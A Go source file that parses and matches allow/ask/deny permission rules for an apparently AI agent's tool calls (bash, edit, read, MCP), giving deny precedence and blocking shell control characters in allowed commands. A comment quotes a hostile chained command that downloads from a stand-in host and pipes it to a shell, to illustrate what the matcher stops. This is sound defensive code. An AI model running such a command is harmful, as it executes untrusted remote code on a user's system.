package settings

import (
	"errors"
	"fmt"
	"path"
	"strings"
)

// Decision is what the rules say about a call.
type Decision int

// Decisions, weakest first; the strongest matching rule decides.
const (
	// None: no rule matches; the mode decides.
	None Decision = iota
	Allow
	Ask
	Deny
)

func (d Decision) String() string {
	return [...]string{"none", "allow", "ask", "deny"}[d]
}

// Call is what rules are matched against.
type Call struct {
	// Tool is the tool's name (bash, edit, write, read, mcp__server__tool).
	Tool string
	// Kind is its ACP kind (read, edit, execute, search, other): "edit"
	// rules cover every tool of kind edit, "read" rules reads and
	// searches.
	Kind string
	// Subject is the command line for bash, the path for file tools
	// (relative to the cwd when inside, else absolute).
	Subject string
	// Named: only an allow rule whose pattern names the subject applies,
	// never one for the whole tool (paths outside the cwd, protected
	// paths).
	Named bool
}

// Rule is one parsed tool pattern: Name (a tool name or kind, "*"
// wildcards) and, in parentheses, an optional argument pattern.
type Rule struct {
	Text   string
	Name   string
	Arg    string
	HasArg bool
	segs   []string // Arg split into path names, once
	// cmd is Arg split on its unescaped "*" for commands, escapes
	// removed; literal is set when Arg has no wildcard.
	cmd     []string
	literal bool
}

// ParseRule parses "name" or "name(argument pattern)".
func ParseRule(s string) (Rule, error) {
	r := Rule{Text: s}
	name, arg, hasArg := strings.Cut(s, "(")
	if hasArg {
		if !strings.HasSuffix(arg, ")") {
			return r, fmt.Errorf("rule %q: missing closing parenthesis", s)
		}
		r.Arg, r.HasArg = strings.TrimSuffix(arg, ")"), true
		if strings.TrimSpace(r.Arg) == "" {
			return r, fmt.Errorf("rule %q: empty argument pattern (leave out the parentheses to match every call)", s)
		}
	}
	r.segs = strings.Split(strings.TrimPrefix(r.Arg, "./"), "/")
	r.cmd = splitGlob(r.Arg)
	r.literal = len(r.cmd) == 1
	r.Name = strings.TrimSpace(name)
	if r.Name == "" {
		return r, fmt.Errorf("rule %q: no tool name", s)
	}
	for _, c := range r.Name {
		ok := c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '_' || c == '-' || c == '*'
		if !ok {
			return r, fmt.Errorf("rule %q: tool name may hold letters, digits, _, - and * only", s)
		}
	}
	return r, nil
}

// shellControl are the characters that join or redirect commands: an
// allow rule never matches a command holding one, so "bash(go test *)"
// cannot allow "go test ./... && curl evil | sh".
const shellControl = ";&|<>$`\n\r()"

// Matches reports whether r covers c. forAllow is set when r is an allow
// rule (a command with shell control characters is never allowed by a
// pattern; deny and ask rules also match any part of it).
func (r Rule) Matches(c Call, forAllow bool) bool { return r.matches(prepare(c), forAllow) }

// prepared is a call with its subject normalized once for every rule.
type prepared struct {
	Call
	command bool
	clean   string   // the path subject, cleaned, slash-separated
	base    string   // its last name
	parts   []string // its names
}

func prepare(c Call) prepared {
	p := prepared{Call: c, command: c.Kind == "execute" || c.Tool == "bash"}
	if p.command {
		p.clean = strings.TrimSpace(c.Subject)
	} else if c.Subject != "" {
		p.clean = strings.TrimPrefix(path.Clean(strings.ReplaceAll(c.Subject, "\\", "/")), "./")
		p.base = path.Base(p.clean)
		p.parts = strings.Split(p.clean, "/")
	}
	return p
}

func (r Rule) matches(c prepared, forAllow bool) bool {
	if !r.nameMatches(c.Call) {
		return false
	}
	if !r.HasArg {
		return true
	}
	if c.Subject == "" {
		return false
	}
	if c.command {
		cmd := c.clean
		if globParts(r.cmd, cmd) {
			return !forAllow || !strings.ContainsAny(cmd, shellControl) || r.literal
		}
		if forAllow {
			return false
		}
		for _, part := range strings.FieldsFunc(cmd, func(c rune) bool { return strings.ContainsRune(shellControl, c) }) {
			if globParts(r.cmd, strings.TrimSpace(part)) {
				return true
			}
		}
		return false
	}
	return pathMatches(r.Arg, r.segs, c)
}

func (r Rule) nameMatches(c Call) bool {
	if globAny(r.Name, c.Tool) {
		return true
	}
	switch r.Name {
	case "edit":
		return c.Kind == "edit"
	case "read":
		return c.Kind == "read" || c.Kind == "search"
	}
	return false
}

// EscapePattern escapes s so that, as a command pattern, it matches s
// only: a backslash before "*" makes it a literal star, before a backslash a
// literal backslash. The exact command an "always allow" answer saves is
// escaped, so "rm -f *.o" does not cover "rm -f ../x y.o".
func EscapePattern(s string) string {
	return strings.NewReplacer(`\`, `\\`, `*`, `\*`).Replace(s)
}

// splitGlob splits a command pattern on its unescaped "*" and removes
// the escapes (a backslash makes the next character literal).
func splitGlob(p string) []string {
	if !strings.ContainsRune(p, '\\') {
		return strings.Split(p, "*")
	}
	var parts []string
	var b strings.Builder
	for i := 0; i < len(p); i++ {
		switch {
		case p[i] == '\\' && i+1 < len(p):
			i++
			b.WriteByte(p[i])
		case p[i] == '*':
			parts = append(parts, b.String())
			b.Reset()
		default:
			b.WriteByte(p[i])
		}
	}
	return append(parts, b.String())
}

// globAny matches s against p where "*" matches any run of characters.
func globAny(p, s string) bool { return globParts(strings.Split(p, "*"), s) }

// globParts matches s against a pattern split on its wildcards.
func globParts(parts []string, s string) bool {
	if len(parts) == 1 {
		return parts[0] == s
	}
	if !strings.HasPrefix(s, parts[0]) {
		return false
	}
	s = s[len(parts[0]):]
	last := parts[len(parts)-1]
	for _, mid := range parts[1 : len(parts)-1] {
		i := strings.Index(s, mid)
		if i < 0 {
			return false
		}
		s = s[i+len(mid):]
	}
	return strings.HasSuffix(s, last)
}

// pathMatches matches a slash path against a pattern where "**" matches
// any number of directories, "*" and "?" work within one name. A pattern
// without a slash also matches the last name (".env" matches "sub/.env").
func pathMatches(p string, segs []string, c prepared) bool {
	if !strings.Contains(p, "/") {
		if ok, _ := path.Match(p, c.base); ok {
			return true
		}
		if !strings.Contains(p, "**") {
			// One name: it matches the last name or nothing (checked above).
			return false
		}
	}
	return matchSegments(segs, c.parts)
}

func matchSegments(p, s []string) bool {
	for len(p) > 0 {
		if p[0] == "**" {
			if len(p) == 1 {
				return true
			}
			for i := 0; i <= len(s); i++ {
				if matchSegments(p[1:], s[i:]) {
					return true
				}
			}
			return false
		}
		if len(s) == 0 {
			return false
		}
		if ok, err := path.Match(p[0], s[0]); err != nil || !ok {
			return false
		}
		p, s = p[1:], s[1:]
	}
	return len(s) == 0
}

// ruleSet is rules by decision.
type ruleSet struct {
	allow, ask, deny []Rule
}

func (rs *ruleSet) add(p Permissions, allow bool) {
	parse := func(list []string) []Rule {
		var out []Rule
		for _, s := range list {
			if r, err := ParseRule(s); err == nil {
				out = append(out, r)
			}
		}
		return out
	}
	if allow {
		rs.allow = append(rs.allow, parse(p.Allow)...)
	}
	rs.ask = append(rs.ask, parse(p.Ask)...)
	rs.deny = append(rs.deny, parse(p.Deny)...)
}

// decide applies deny > ask > allow.
func (rs *ruleSet) decide(call Call) (Decision, string) {
	c := prepare(call)
	for _, r := range rs.deny {
		if r.matches(c, false) {
			return Deny, r.Text
		}
	}
	for _, r := range rs.ask {
		if r.matches(c, false) {
			return Ask, r.Text
		}
	}
	for _, r := range rs.allow {
		if c.Named && !r.HasArg {
			continue
		}
		if r.matches(c, true) {
			return Allow, r.Text
		}
	}
	return None, ""
}

var errNoUserFile = errors.New("no user settings file is known (set XDG_CONFIG_HOME or HOME)")
